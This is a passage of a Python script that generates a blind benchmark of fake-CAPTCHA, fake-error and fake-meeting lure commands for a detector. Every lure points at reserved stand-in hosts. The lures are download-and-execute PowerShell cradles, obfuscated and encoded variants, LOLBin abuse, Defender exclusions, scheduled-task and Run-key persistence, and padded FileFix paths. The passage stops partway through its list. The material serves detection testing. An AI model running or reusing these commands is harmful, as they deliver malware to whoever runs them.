"""Writes the seventh blind set, bench/blind/lures-7.jsonl and benign-7.jsonl (bench/blind/README.md,
"blind-7"). Deterministic: run it again and the files come out byte for byte the same.

    .venv/bin/python bench/blind/make_blind7.py

Written blind (the author had not read the rules, the LOLBin catalogue, the trust list,
app/detection or any case file), weighted like the hold-out: lures as a crawl of live fake-CAPTCHA,
fake-error and fake-meeting pages would capture them, commands as vendor IOC files list them (some
with no page at all), the short obfuscated one-liners other detectors' fixtures use, and a smaller
share of scam, callback, ConsentFix and device-code texts. Every text is our own; lures use reserved
names only (*.test, *.invalid, *.example, the documentation IPv4 ranges and 2001:db8::/32) and
fictitious phone numbers. Benign installers are real projects' published commands with the page
they are published on. Not imported by the app or the bench: the bench reads the jsonl files.
"""

from __future__ import annotations

from pathlib import Path

import blindkit
from blindkit import (
    EMSP,
    ENSP,
    IDSP,
    NBSP,
    NNBSP,
    ZWSP,
    b64,
    b64_utf16,
    carets,
    char_codes,
    gzip_b64,
    hex_str,
    ip_int,
    ps_concat,
    ps_format,
    xor_codes,
)

HERE = Path(__file__).resolve().parent
LURES_OUT = HERE / "lures-7.jsonl"
BENIGN_OUT = HERE / "benign-7.jsonl"

# ----------------------------------------------------------------------------------------------
# Lures: (technique, target, source, text, expect, platform)
# ----------------------------------------------------------------------------------------------

RUN = "run_dialog"
EXP = "explorer_bar"
TERM = "terminal"
CON = "browser_console"
UNK = "unknown"

LURES: list[tuple[str, str, str | None, str, str, str]] = []


def lure(
    technique: str,
    target: str,
    source: str | None,
    text: str,
    expect: str = "malicious",
    platform: str = "windows",
) -> None:
    LURES.append((technique, target, source, text, expect, platform))


# Verification tails as the kits word them (new wordings, several languages).
TAILS = [
    "# Human verification complete - Ray 7c90e1d4b2aa5f31",
    "# ✅ I'm not a robot · reCAPTCHA verification code 4471",
    "# Vérification anti-robot réussie - code 20-4417",
    "# Sicherheitsprüfung bestanden - Code 83311",
    "# Verificación humana completada - ref. 6092",
    "# Verificação concluída: não sou um robô (ID 7720)",
    "# Проверка пройдена — я человек, ID 40-3318",
    "# 人机验证已完成 - 编号 8820",
    "# ロボットではないことを確認しました (コード 5521)",
    "# Weryfikacja zakończona - nie jestem robotem 6610",
    "# İnsan doğrulaması tamamlandı - kod 1190",
    "# Verifica umana completata - codice 3049",
    "# Ik ben geen robot - verificatiecode 7781",
    "# Cloudflare: checking the site connection security... done (ref 1f3a)",
    "# Press Enter to confirm you are human  ID-99812",
    "# DNS resolver check OK - restart your browser after this step",
]


def ioc(technique: str, text: str, target: str = RUN, platform: str = "windows") -> None:
    """A command as a vendor IOC file or report lists it: no page, only where it was pasted."""
    LURES.append((technique, target, None, text, "malicious", platform))


# --- Run box: fake-CAPTCHA PowerShell in spellings the kits rotate through ------------------------

PS_SHAPES = [
    ("ps-runbox-irm-iex-paren", "powershell -WindowStyle Hidden -c \"iex (irm '{u}')\""),
    (
        "ps-runbox-iwr-content-pipe",
        'powershell -w hidden -nop -c "(iwr -Uri {u} -UseB).Content | iex"',
    ),
    (
        "ps-runbox-webclient-var",
        "powershell -NoP -NonI -W 1 -c \"$w=New-Object System.Net.WebClient;$c=$w.DownloadString('{u}');IEX $c\"",
    ),
    ("ps-runbox-start-process-hidden", 'cmd /c start "" /b powershell -nop -w h -c "irm {u}|iex"'),
    ("ps-runbox-pwsh-cradle", "pwsh.exe -NoLogo -w Hidden -Command \"iex(irm -useb '{u}')\""),
    (
        "ps-runbox-full-path",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -w h -c \"irm '{u}' | iex\"",
    ),
    (
        "ps-runbox-invoke-expression-iwr",
        "powershell -ep Bypass -c \"Invoke-Expression (Invoke-WebRequest '{u}' -UseBasicParsing).Content\"",
    ),
    (
        "ps-runbox-scriptblock-invoke",
        "powershell -w h -c \"[scriptblock]::Create((New-Object Net.WebClient).DownloadString('{u}')).Invoke()\"",
    ),
    ("ps-runbox-mshta-sibling-pipe", 'powershell -nop -c "irm {u} | powershell -w h -"'),
    ("ps-runbox-ampersand-irm", 'powershell -w 1 -c "&([ScriptBlock]::Create((irm {u})))"'),
]
RUNBOX_PAGES = [
    ("https://www.seaglass-yoga.example/schedule", "https://turnstile.visitor-guard.test/js/v3"),
    ("https://www.brennan-roofing.example/estimate", "https://198.51.100.213/verify.txt"),
    ("https://www.atelier-lumen.example/boutique", "https://cdn.captcha-secure-check.invalid/fr"),
    ("https://www.hofbaeckerei-maier.example/", "https://bot-check.zugangspruefung.test/p"),
    ("https://www.casa-del-mar-hostal.example/reservas", "http://203.0.113.58:8080/ver"),
    ("https://www.nordlys-kafe.example/meny", "https://edge.human-verify-api.test/load"),
    ("https://blog.quiltingcorner.example/patterns", "https://s3.verifyhub-assets.invalid/v.ps1"),
    ("https://www.riverside-chiro.example/new-patients", "https://check.antibot-layer.test/r/55"),
    ("https://www.pizzeria-vesuvio.example/ordina", "https://192.0.2.140/it"),
    ("https://forum.fjordangler.example/thread/4412", "https://gate.cf-clearance.invalid/a"),
]
for i, (technique, shape) in enumerate(PS_SHAPES):
    for j in range(3):
        source, url = RUNBOX_PAGES[(i + 4 * j) % len(RUNBOX_PAGES)]
        tail = TAILS[(3 * i + j) % len(TAILS)]
        sep = [" ", "   ", " " * 55][j]
        lure(technique, RUN, source, shape.format(u=url) + sep + tail)

# Encoded PowerShell: -e / -enc / -EncodedCommand / -ec with their cradles inside.
for flag, inner, source, tail in [
    (
        "-e",
        "irm https://ray.challenge-verify.test/x | iex",
        "https://www.bluebird-bakery.example/",
        TAILS[0],
    ),
    (
        "-enC",
        "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.41/k')",
        "https://www.kantorlegal-lodz.example/",
        TAILS[9],
    ),
    (
        "-EncodedCommand",
        '$p="$env:TEMP\\u.ps1";iwr https://assets.robotcheck-cdn.invalid/u -OutFile $p;& $p',
        "https://www.vintage-vinyl-shop.example/",
        TAILS[1],
    ),
    (
        "-ec",
        "Invoke-RestMethod 'https://tr.dogrulama-merkezi.test/k' | Invoke-Expression",
        "https://www.istanbul-kebap.example/menu",
        TAILS[10],
    ),
    (
        "/enc",
        "iwr http://203.0.113.201/s.txt -UseBasicParsing | iex",
        "https://www.pousada-sol.example/",
        TAILS[5],
    ),
    (
        "-en",
        'Start-Process powershell -WindowStyle Hidden -ArgumentList "-c irm https://m.verify-session.test/p | iex"',
        "https://www.ramen-ichiban.example/",
        TAILS[8],
    ),
    (
        "-EnCoDeDcOmMaNd",
        "[Net.ServicePointManager]::SecurityProtocol='Tls12';iex(irm 'https://api.captchafront.invalid/c')",
        "https://www.oakridge-vet.example/",
        TAILS[13],
    ),
    (
        "-encodedcommand",
        "$c=irm https://p.verify-ticket.test/v;& ([scriptblock]::Create($c))",
        "https://www.sushi-kaiten.example/",
        TAILS[14],
    ),
]:
    lure(
        "ps-encoded-runbox",
        RUN,
        source,
        f"powershell -nop -w hidden {flag} {b64_utf16(inner)} {tail}",
    )

# --- Fixture-style obfuscations: names and addresses hidden in the spelling ----------------------

OBF_SRC = "https://www.cedar-lane-books.example/events"
U1 = "https://stage2.payload-relay.test/a.ps1"
lure(
    "ps-obf-string-concat",
    RUN,
    OBF_SRC,
    f'powershell -w h -c "$u={ps_concat(U1)};iex(irm $u)"  {TAILS[2]}',
)
lure(
    "ps-obf-format-operator",
    RUN,
    "https://www.golden-gate-dumplings.example/",
    f'powershell -w h -c "iex(irm {ps_format("https://cfg.verifynet-ops.invalid/k")})"  {TAILS[0]}',
)
lure(
    "ps-obf-iex-from-format",
    RUN,
    "https://www.maple-street-dental.example/",
    "powershell -w h -c \"& ('{1}{0}' -f 'ex','i') (irm 'https://n.relay-chk.test/x')\"  "
    + TAILS[14],
)
lure(
    "ps-obf-char-codes-url",
    RUN,
    "https://www.moto-garage-brescia.example/",
    f'powershell -w h -c "$u=-join([char[]]({char_codes("https://cdn.verifica-umana.test/i")}));iex(irm $u)"  {TAILS[11]}',
)
ioc(
    "ps-obf-char-codes-command",
    f'powershell -c "iex(-join(({char_codes("iex(irm https://198.51.100.97/q)")})|%{{[char]$_}}))"',
)
lure(
    "ps-obf-base64-url",
    RUN,
    "https://www.linden-apotheke.example/",
    f"powershell -w h -c \"iex(irm ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64('https://x.pruefseite.test/d')}'))))\"  {TAILS[3]}",
)
ioc(
    "ps-obf-base64-whole",
    f"powershell -c \"iex([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{b64_utf16('iwr https://drop.unicode-stage.invalid/m.ps1 -useb | iex')}')))\"",
)
lure(
    "ps-obf-reversed-string",
    RUN,
    "https://www.pinewood-cabins.example/book",
    "powershell -w h -c \"$s='1sp.q/tset.pmats-egats.dc//:sptth';$u=-join $s[-1..-($s.Length)];iex(irm $u)\"  "
    + TAILS[4],
)
lure(
    "ps-obf-replace-junk",
    RUN,
    "https://www.bodega-sanroque.example/",
    "powershell -w h -c \"iex(irm ('hZZttps://cZZdn.tarea-verifZZicar.test/eZZs' -replace 'ZZ',''))\"  "
    + TAILS[4],
)
lure(
    "ps-obf-dotreplace-method",
    RUN,
    "https://www.salon-belle-vue.example/",
    "powershell -w h -c \"$a='hxxps://fix.captcha-lane.test/b'.Replace('hxxp','http');iex(irm $a)\"  "
    + TAILS[2],
)
lure(
    "ps-obf-backtick-names",
    RUN,
    "https://www.heron-lake-lodge.example/",
    "powershell -w h -c \"i`e`x (i`r`m 'https://sync.pass-check.invalid/t')\"  " + TAILS[15],
)
ioc(
    "ps-obf-mixed-case",
    "PoWeRsHeLl -W hIdDeN -C \"InVoKe-ExPrEsSiOn (InVoKe-ReStMeThOd 'hTtPs://203.0.113.17/Ld')\"",
)
lure(
    "ps-obf-gal-wildcard",
    RUN,
    "https://www.westbrook-library.example/catalog",
    "powershell -w h -c \"$u='https://ua.verify-stride.test/z';.(gal i?x) (irm $u)\"  " + TAILS[0],
)
ioc(
    "ps-obf-gcm-wildcard",
    "powershell -w h -c \"&(gcm I*-Ex*ion) (&(gcm I*-R*od) 'https://ctl.cmdlet-hunt.invalid/p')\"",
)
lure(
    "ps-obf-get-command-wildcard",
    RUN,
    "https://www.tidewater-marine.example/",
    "powershell -c \"$x=Get-Command *ke-Exp*;$y=Get-Command *ke-Web*;& $x ((& $y 'https://dl.wildname.test/r' -UseB).Content)\"  "
    + TAILS[13],
)
ioc(
    "ps-obf-dir-system32-path",
    "powershell -w h -c \"& (dir C:\\W*\\S*32\\c??l.e*) -s 'https://paths.sysglob.test/c.txt' -o $env:TEMP\\c.bat; & $env:TEMP\\c.bat\"",
)
lure(
    "ps-obf-env-substring",
    RUN,
    "https://www.alpine-ski-rental.example/",
    "powershell -w h -c \"& ($env:ComSpec[4,15,25]-join'') (irm 'https://cs.envslice.invalid/s')\"  "
    + TAILS[3],
)
ioc(
    "ps-obf-pshome-letters",
    "powershell -c \"&($pshome[4]+$pshome[30]+'x') (New-Object Net.WebClient).DownloadString('http://192.0.2.107/r')\"",
)
lure(
    "ps-obf-join-array",
    RUN,
    "https://www.greenfield-farmstand.example/",
    "powershell -w h -c \"$p=@('ht','tps:','//bo','t.sa','fe-pass.test','/x')-join'';iex(irm $p)\"  "
    + TAILS[1],
)
ioc(
    "ps-obf-xor-key",
    f'powershell -c "$b=({xor_codes("iex(irm https://xk.bytekey.invalid/7)", 23)});iex(-join($b|%{{[char]($_ -bxor 23)}}))"',
)
lure(
    "ps-obf-concat-exe-download",
    RUN,
    "https://www.lakeside-pediatrics.example/",
    "powershell -w h -c \"$e=[Environment]::GetEnvironmentVariable('TEMP');iwr ('ht'+'tp://'+'198.51.100.106/ld.e'+'xe') -OutFile \\\"$e\\upd.exe\\\";saps \\\"$e\\upd.exe\\\"\"  "
    + TAILS[14],
)
lure(
    "ps-obf-uri-unescape",
    RUN,
    "https://www.karaoke-nights.example/",
    "powershell -w h -c \"iex(irm ([uri]::UnescapeDataString('https%3A%2F%2Fhx.escape-relay.test%2Fp')))\"  "
    + TAILS[13],
)
ioc(
    "ps-obf-hex-url",
    f"powershell -c \"$h='{hex_str('https://hexa.byte-drop.invalid/g')}';$u=-join($h -split '(..)'|?{{$_}}|%{{[char][convert]::ToInt32($_,16)}});iex(irm $u)\"",
)
lure(
    "ps-obf-gzip-base64",
    RUN,
    "https://www.cobblestone-bistro.example/",
    f"powershell -w h -c \"$d=[Convert]::FromBase64String('{gzip_b64('iex(irm https://gz.inflate-drop.test/q)')}');$s=New-Object IO.Compression.GzipStream([IO.MemoryStream]$d,[IO.Compression.CompressionMode]::Decompress);iex(New-Object IO.StreamReader($s)).ReadToEnd()\"  {TAILS[0]}",
)
lure(
    "ps-obf-decimal-ip",
    RUN,
    "https://www.marigold-florist.example/",
    f'powershell -w h -c "iex(irm http://{ip_int("198.51.100.23")}/c)"  {TAILS[15]}',
)
ioc("ps-obf-hex-ip", 'powershell -w h -c "iwr http://0xCB.0x00.0x71.0x2A/s.ps1 -useb|iex"')
lure(
    "cmd-caret-insertion",
    RUN,
    "https://www.harvest-moon-cafe.example/",
    carets("powershell -w h -c iex(irm https://cr.caret-pass.test/k)") + "  " + TAILS[13],
)
ioc(
    "cmd-caret-doubled-quotes",
    'c^m^d /c p^o^w^e^r^s^h^e^l^l -w h -c "i""e""x(irm https://qq.quote-pass.invalid/v)"',
)
lure(
    "cmd-env-substring-name",
    RUN,
    "https://www.sandpiper-inn.example/",
    'cmd /c "set x=powershell&& call %x% -w h -c irm https://st.envset-run.test/a^|iex"  '
    + TAILS[14],
)
ioc(
    "cmd-env-slice-comspec",
    'cmd /v:on /c "set p=%PUBLIC:~9,1%&& set q=owershell&& call !p!!q! -c iex(irm https://sl.public-slice.invalid/z)"',
)
lure(
    "cmd-for-f-download",
    RUN,
    "https://www.timberline-outfitters.example/",
    "cmd /c for /f \"delims=\" %a in ('curl -s https://ff.loop-fetch.test/c') do %a  " + TAILS[0],
)
lure(
    "cmd-curl-pipe-cmd",
    RUN,
    "https://www.hillcrest-tutoring.example/",
    "cmd /c curl -s http://203.0.113.187/b.txt | cmd  " + TAILS[1],
)
lure(
    "cmd-quote-insertion",
    RUN,
    "https://www.dulce-panaderia.example/",
    'c"m"d /c p"ow"ersh"el"l -w h -c "iex(irm https://qi.splitquote.test/e)"  ' + TAILS[4],
)

# --- Run box: LOLBins the kits use (mshta, msiexec, rundll32, regsvr32, finger, nslookup, ...) ---

for source, text in [
    (
        "https://www.crescent-moon-tattoo.example/",
        "mshta https://hta.verify-portal.test/check.hta  " + TAILS[0],
    ),
    (
        "https://www.lindgren-snickeri.example/",
        "mshta.exe http://198.51.100.152/v " + " " * 50 + TAILS[14],
    ),
    (
        "https://www.camping-les-pins.example/",
        'mshta "https://cdn.controle-robot.test/s" ' + TAILS[2],
    ),
    (
        "https://www.summit-physio.example/",
        "C:\\Windows\\SysWOW64\\mshta.exe https://media.clip-verify.invalid/track.mp3  " + TAILS[1],
    ),
    (
        "https://www.ateliers-dubois.example/",
        'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -w h -c irm https://vb.shell-exec.test/a|iex"",0:close")  '
        + TAILS[13],
    ),
    (
        "https://www.tuscan-olive-press.example/",
        "mshta javascript:a=GetObject('script:https://sct.scriptlet-host.test/x.sct').Exec();close()  "
        + TAILS[11],
    ),
]:
    lure("mshta-runbox", RUN, source, text)

for source, text in [
    (
        "https://www.prairie-wind-realty.example/",
        "msiexec /i https://pkg.update-verify.test/agent.msi /qn  " + TAILS[0],
    ),
    (
        "https://www.taqueria-el-sol.example/",
        "msiexec.exe /q /i http://203.0.113.76/setup.msi  " + TAILS[4],
    ),
    (
        "https://www.quiet-harbor-spa.example/",
        'msiexec /package "https://dl.teams-runtime-fix.invalid/TeamsRuntime.msi" /quiet  # Teams audio repair',
    ),
    (
        "https://www.brookside-montessori.example/",
        "cmd /c msiexec /i \\\\198.51.100.6\\share\\cl.msi /qn  " + TAILS[14],
    ),
]:
    lure("msiexec-url-runbox", RUN, source, text)

for technique, source, text in [
    (
        "rundll32-webdav-dll",
        "https://www.silver-birch-gallery.example/",
        "rundll32 \\\\dav.fileshare-verify.test@SSL\\DavWWWRoot\\v.dll,Start  " + TAILS[0],
    ),
    (
        "rundll32-unc-ip",
        "https://www.kaffeeroesterei-huber.example/",
        "rundll32.exe \\\\203.0.113.55\\pub\\ok.dll,DllMain  " + TAILS[3],
    ),
    (
        "rundll32-url-openurl",
        "https://www.mountainview-dentistry.example/",
        "rundll32 url.dll,OpenURL https://hta.open-verify.invalid/p.hta  " + TAILS[13],
    ),
    (
        "regsvr32-scrobj-url",
        "https://www.bayou-crawfish.example/",
        "regsvr32 /s /n /u /i:https://sct.verify-reg.test/r.sct scrobj.dll  " + TAILS[1],
    ),
    (
        "regsvr32-unc-dll",
        "https://www.palmetto-golf.example/",
        "regsvr32 /s \\\\198.51.100.32@80\\dav\\x.dll  " + TAILS[15],
    ),
    (
        "rundll32-shell32-control",
        "https://www.ivy-lane-interiors.example/",
        'rundll32 shell32.dll,ShellExec_RunDLL powershell -w h -c "irm https://se.rundll-chain.test/p|iex"  '
        + TAILS[0],
    ),
]:
    lure(technique, RUN, source, text)

for technique, source, text in [
    (
        "finger-pipe-cmd",
        "https://www.copperkettle-tearoom.example/",
        "cmd /c finger verify@198.51.100.29 | cmd  " + TAILS[0],
    ),
    (
        "finger-findstr-stage",
        "https://www.eastside-karate.example/",
        'cmd /c "finger gate@finger.relay-node.test > %temp%\\f.txt & findstr /v "^#" %temp%\\f.txt > %temp%\\f.bat & %temp%\\f.bat"  '
        + TAILS[14],
    ),
    (
        "finger-more-powershell",
        "https://www.villa-aurora.example/",
        "cmd /c finger.exe ps@203.0.113.47 | more +2 | powershell -  " + TAILS[11],
    ),
    (
        "nslookup-txt-staging",
        "https://www.blue-heron-kayaks.example/",
        'cmd /c nslookup -q=txt stage.dns-verify.test 198.51.100.57 | findstr "\\"" > %tmp%\\n.cmd && %tmp%\\n.cmd  '
        + TAILS[13],
    ),
    (
        "nslookup-name-field-ps",
        "https://www.orchard-hill-cider.example/",
        'powershell -w h -c "$r=(nslookup -q=txt k.txtrecord.invalid 192.0.2.53)[-1];iex $r"  '
        + TAILS[0],
    ),
    (
        "resolve-dnsname-txt-iex",
        "https://www.seabreeze-motel.example/",
        'powershell -w h -c "iex (Resolve-DnsName -Type TXT run.txtrec-relay.test).Strings"  '
        + TAILS[1],
    ),
]:
    lure(technique, RUN, source, text)

for technique, source, text in [
    (
        "certutil-urlcache-run",
        "https://www.fairway-auto-repair.example/",
        "cmd /c certutil -urlcache -split -f https://c.cert-drop.test/u.exe %temp%\\u.exe && %temp%\\u.exe  "
        + TAILS[0],
    ),
    (
        "bitsadmin-transfer-run",
        "https://www.wildflower-weddings.example/",
        "cmd /c bitsadmin /transfer j /download /priority high http://198.51.100.84/s.exe %public%\\s.exe & start %public%\\s.exe  "
        + TAILS[15],
    ),
    (
        "curl-exe-bat-start",
        "https://www.hilltop-hardware.example/",
        "cmd /c curl.exe -sLo %TEMP%\\fix.bat https://bat.quickfix-cdn.invalid/fix.bat && %TEMP%\\fix.bat  "
        + TAILS[13],
    ),
    (
        "curl-exe-vbs-wscript",
        "https://www.northstar-brewing.example/",
        "cmd /c curl -k -o %APPDATA%\\v.vbs https://vb.wscript-drop.test/v.vbs & wscript %APPDATA%\\v.vbs  "
        + TAILS[1],
    ),
    (
        "curl-exe-zip-expand",
        "https://www.oceanview-condos.example/",
        'powershell -w h -c "iwr https://zip.pack-stage.test/c.zip -OutFile $env:TEMP\\c.zip;Expand-Archive $env:TEMP\\c.zip $env:APPDATA\\c -Force;Start-Process $env:APPDATA\\c\\client32.exe"  '
        + TAILS[0],
    ),
    (
        "conhost-headless-cradle",
        "https://www.saffron-indian-kitchen.example/",
        'conhost.exe --headless powershell -c "irm https://hd.headless-run.invalid/h | iex"  '
        + TAILS[14],
    ),
    (
        "syncappv-script-proxy",
        "https://www.redwood-chiropractic.example/",
        'C:\\Windows\\System32\\SyncAppvPublishingServer.vbs "n;iex(irm https://ap.appv-proxy.test/s)"  '
        + TAILS[0],
    ),
    (
        "pubprn-script-proxy",
        "https://www.stonebridge-pottery.example/",
        "cscript C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://pp.printer-proxy.invalid/p.sct  "
        + TAILS[13],
    ),
    (
        "pushd-unc-run",
        "https://www.glenwood-animal-clinic.example/",
        "cmd /c pushd \\\\198.51.100.120\\drop && start ok.cmd  " + TAILS[1],
    ),
    (
        "net-use-webdav-run",
        "https://www.larkspur-salon.example/",
        "cmd /c net use Q: https://webdav.mountpoint-check.test/dav && Q:\\verify.exe  "
        + TAILS[14],
    ),
    (
        "echo-vbs-xmlhttp",
        "https://www.tumbleweed-rv-park.example/",
        'cmd /c echo Set h=CreateObject("MSXML2.XMLHTTP"):h.Open "GET","https://x.vbs-writer.test/p.txt",0:h.Send:Execute h.responseText>%tmp%\\a.vbs&wscript %tmp%\\a.vbs  '
        + TAILS[15],
    ),
    (
        "wscript-remote-js",
        "https://www.bellweather-books.example/",
        "wscript.exe //E:jscript \\\\203.0.113.70\\s\\check.txt  " + TAILS[13],
    ),
    (
        "forfiles-proxy-ps",
        "https://www.dockside-seafood.example/",
        'forfiles /p c:\\windows\\system32 /m notepad.exe /c "powershell -w h -c irm https://ff.forfiles-proxy.invalid/p|iex"  '
        + TAILS[0],
    ),
    (
        "pcalua-proxy-url",
        "https://www.summerfield-daycare.example/",
        "pcalua.exe -a \\\\dav.pca-proxy.test@SSL\\s\\run.exe  " + TAILS[14],
    ),
    (
        "explorer-wscript-startup",
        "https://www.lucky-koi-pond.example/",
        'powershell -w h -c "iwr https://st.startup-drop.test/u.js -OutFile \\"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.js\\"; wscript \\"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.js\\""  '
        + TAILS[0],
    ),
    (
        "ps-defender-exclusion-then-run",
        "https://www.harborlight-church.example/",
        'powershell -w h -c "Add-MpPreference -ExclusionPath $env:APPDATA;iwr https://ex.defender-skip.invalid/s.exe -OutFile $env:APPDATA\\s.exe;& $env:APPDATA\\s.exe"  '
        + TAILS[1],
    ),
    (
        "ps-schtasks-persist-download",
        "https://www.elmwood-yarns.example/",
        'cmd /c schtasks /create /sc minute /mo 30 /tn "EdgeUpdateCheck" /tr "powershell -w h -c irm https://sc.task-beacon.test/b|iex" /f  '
        + TAILS[13],
    ),
    (
        "reg-run-key-persist",
        "https://www.coastal-kite-shop.example/",
        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSync /d "mshta https://rk.runkey-host.invalid/o.hta" /f  '
        + TAILS[14],
    ),
]:
    lure(technique, RUN, source, text)

# --- Fake error and fake meeting pages: the "fix" is a cradle with a repair story ---------------

for technique, source, text in [
    (
        "fake-error-word-font",
        "https://docs-viewer.fontfix-portal.example/open?id=77",
        'powershell -w h -c "irm https://fonts.doc-repair.test/fix | iex"  # Word could not display this document: install missing fonts',
    ),
    (
        "fake-error-chrome-update",
        "https://www.westlake-cycling.example/news",
        "powershell -w h -c \"iex(irm 'https://upd.browser-patch.invalid/chrome')\"  # Chrome update 131.0.2 - fixes 'Aw, Snap!' page error",
    ),
    (
        "fake-meeting-teams-audio",
        "https://teams-join.meetnow-room.example/l/8812",
        'powershell -ep bypass -w h -c "irm https://a.audio-driver-fix.test/teams | iex"  # Teams: microphone driver not detected. Run to repair',
    ),
    (
        "fake-meeting-zoom-sdk",
        "https://zoom-webinar.events-hall.example/j/4471",
        "cmd /c curl -s https://z.sdk-refresh.invalid/zm.cmd -o %tmp%\\zm.cmd && %tmp%\\zm.cmd  :: Zoom SDK mismatch 0x80070057",
    ),
    (
        "fake-meeting-meet-camera",
        "https://meet-call.gmeet-room.example/abc-defg-hij",
        'powershell -w h -c "iwr https://cam.webcam-repair.test/c.ps1 -UseB | iex"  # Google Meet: camera access blocked. Paste to reset permissions',
    ),
    (
        "fake-error-onedrive-sync",
        "https://share.onedrive-file.example/view?d=Q4",
        'powershell -w h -c "irm https://od.sync-resolve.invalid/r | iex" # OneDrive: file could not be synced - error 0x8004de40',
    ),
    (
        "fake-error-dns-probe",
        "https://www.bramble-and-rose.example/",
        'cmd /c ipconfig /flushdns & powershell -w h -c "irm https://dns.resolver-fix.test/n|iex"  # DNS_PROBE_FINISHED_NXDOMAIN fix',
    ),
    (
        "fake-error-pdf-viewer",
        "https://invoice-view.docreader-portal.example/pdf/2231",
        "msiexec /i https://pdf.reader-plugin.test/AdobeAddon.msi /qn  # PDF viewer plug-in required to open this invoice",
    ),
]:
    lure(technique, RUN, source, text)

# --- Windows Terminal (Win+X, I): the cradle pasted into a terminal -------------------------------

for technique, source, text in [
    (
        "wt-irm-iex-captcha",
        "https://www.magnolia-event-hall.example/",
        "irm https://wt.verify-console.test/s | iex  " + TAILS[14],
    ),
    (
        "wt-iwr-iex-meeting",
        "https://teams-live.townhall-stream.example/e/3341",
        "iwr -useb https://mt.meeting-fix.invalid/a.ps1 | iex   # Teams Live: audio codec repair",
    ),
    (
        "wt-webclient-bypass",
        "https://www.sorrento-gelato.example/",
        "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('http://198.51.100.171/v.ps1'))  "
        + TAILS[11],
    ),
    (
        "wt-start-process-hidden",
        "https://www.greystone-law.example/",
        "Start-Process powershell -WindowStyle Hidden -ArgumentList '-c','irm https://sp.wt-hidden.test/c|iex'  "
        + TAILS[0],
    ),
    (
        "wt-cmd-curl-bat",
        "https://www.kilauea-tours.example/",
        "curl.exe -so $env:TEMP\\v.bat https://vb.cmd-stage.invalid/v.bat; & $env:TEMP\\v.bat  "
        + TAILS[15],
    ),
    (
        "wt-b64-iex",
        "https://www.ashford-opticians.example/",
        f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64('irm https://b6.wt-decode.test/x | iex')}')))  "
        + TAILS[1],
    ),
]:
    lure(technique, TERM, source, text)

# --- FileFix: Explorer's address bar, a command padded behind an innocent path --------------------

FILEFIX_PATHS = [
    "C:\\Company\\Shared\\Benefits\\Open_Enrollment_2027.docx",
    "\\\\files.hr-share.example\\HR\\Handbook\\Remote_Work_Policy.pdf",
    "C:\\Users\\Public\\Documents\\Quarterly_Bonus_Statement.pdf",
    "C:\\Legal\\Contracts\\NDA_signed_copy.pdf",
    "C:\\Finanzen\\Gehaltsabrechnung_Dezember.pdf",
    "C:\\Documents\\Facture_Client_2026-118.pdf",
    "C:\\Dokumenty\\Umowa_najmu_2027.pdf",
    "D:\\Shared\\IT\\VPN_Access_Request.pdf",
]
FILEFIX_CMDS = [
    'powershell -w h -c "irm https://ff.doc-access.test/o | iex"',
    "powershell -nop -c \"iex(iwr -useb 'http://203.0.113.133/d')\"",
    "cmd /c curl -s https://ff.sharepoint-mirror.invalid/a.bat -o %tmp%\\a.bat&%tmp%\\a.bat",
    "mshta https://ff.preview-hta.test/p",
    "powershell -w 1 -c \"$u='https://ff.hr-portal-files.test/h';iex(irm $u)\"",
    "msiexec /i https://ff.doc-plugin.invalid/viewer.msi /qn",
    'powershell -w h -c "iwr https://ff.pdfsec.test/p.zip -OutFile $env:TEMP\\p.zip;Expand-Archive $env:TEMP\\p.zip $env:TEMP\\p;& $env:TEMP\\p\\run.exe"',
    'powershell -w h -c "irm https://ff.vpn-request.invalid/v|iex"',
]
FILEFIX_PAGES = [
    "https://benefits-portal.enroll-hr.example/doc/2027",
    "https://intranet-share.hrdocs-cloud.example/open",
    "https://bonus.payroll-notice.example/view",
    "https://legal-docs.esign-vault.example/nda",
    "https://lohn.personalportal-de.example/abrechnung",
    "https://factures.espace-client-docs.example/",
    "https://umowy.portal-dokumenty.example/",
    "https://it-helpdesk.access-requests.example/vpn",
]
PADS = [
    " " * 70,
    NBSP * 60,
    EMSP * 40,
    " " * 30 + ZWSP * 10 + " " * 30,
    ENSP * 50,
    IDSP * 40,
    "\t" * 20,
    NNBSP * 60,
]
for k in range(8):
    lure(
        "filefix-padded-path",
        EXP,
        FILEFIX_PAGES[k],
        f"{FILEFIX_CMDS[k]} # {PADS[k]}{FILEFIX_PATHS[k]}",
    )
for _k, (source, text) in enumerate(
    [
        (
            "https://shared-file.docs-preview.example/f/9",
            "\\\\webdav.file-preview.test@SSL\\DavWWWRoot\\Invoice_4471.pdf.lnk",
        ),
        (
            "https://drive-share.filedrop-cloud.example/s/2",
            "\\\\198.51.100.94@80\\public\\Statement.pdf.lnk",
        ),
        (
            "https://hr-files.benefit-docs.example/x",
            "search-ms:query=Benefits&crumb=location:\\\\dav.searchdrop.test@SSL\\DavWWWRoot&displayname=Benefits",
        ),
        (
            "https://fileshare.secure-docs-hub.example/v",
            f"cmd /c finger pdf@203.0.113.3|cmd & rem {NBSP * 50}C:\\Shared\\Payslip_Nov.pdf",
        ),
        (
            "https://files.legal-review.example/case",
            f'powershell -w h -c "& ([scriptblock]::Create((irm https://ff.casefile.invalid/c)))"  #{" " * 60}\\\\fileserver\\Legal\\Case_2271.docx',
        ),
        (
            "https://tax.steuer-dokumente.example/",
            f"conhost --headless powershell irm https://ff.steuer-datei.test/s|iex #{NBSP * 64}C:\\Steuer\\Bescheid_2026.pdf",
        ),
    ]
):
    lure("filefix-variant", EXP, source, text)

# --- As vendor IOC files list them: bare commands with no page ------------------------------------

for technique, text in [
    ("ioc-ps-irm-iex", 'powershell -w h -c "irm https://195.ioc-listed.test/1 | iex"'),
    (
        "ioc-ps-iwr-iex-ip",
        'powershell -NoProfile -WindowStyle Hidden -Command "iwr http://198.51.100.160/init.ps1 -UseBasicParsing | iex"',
    ),
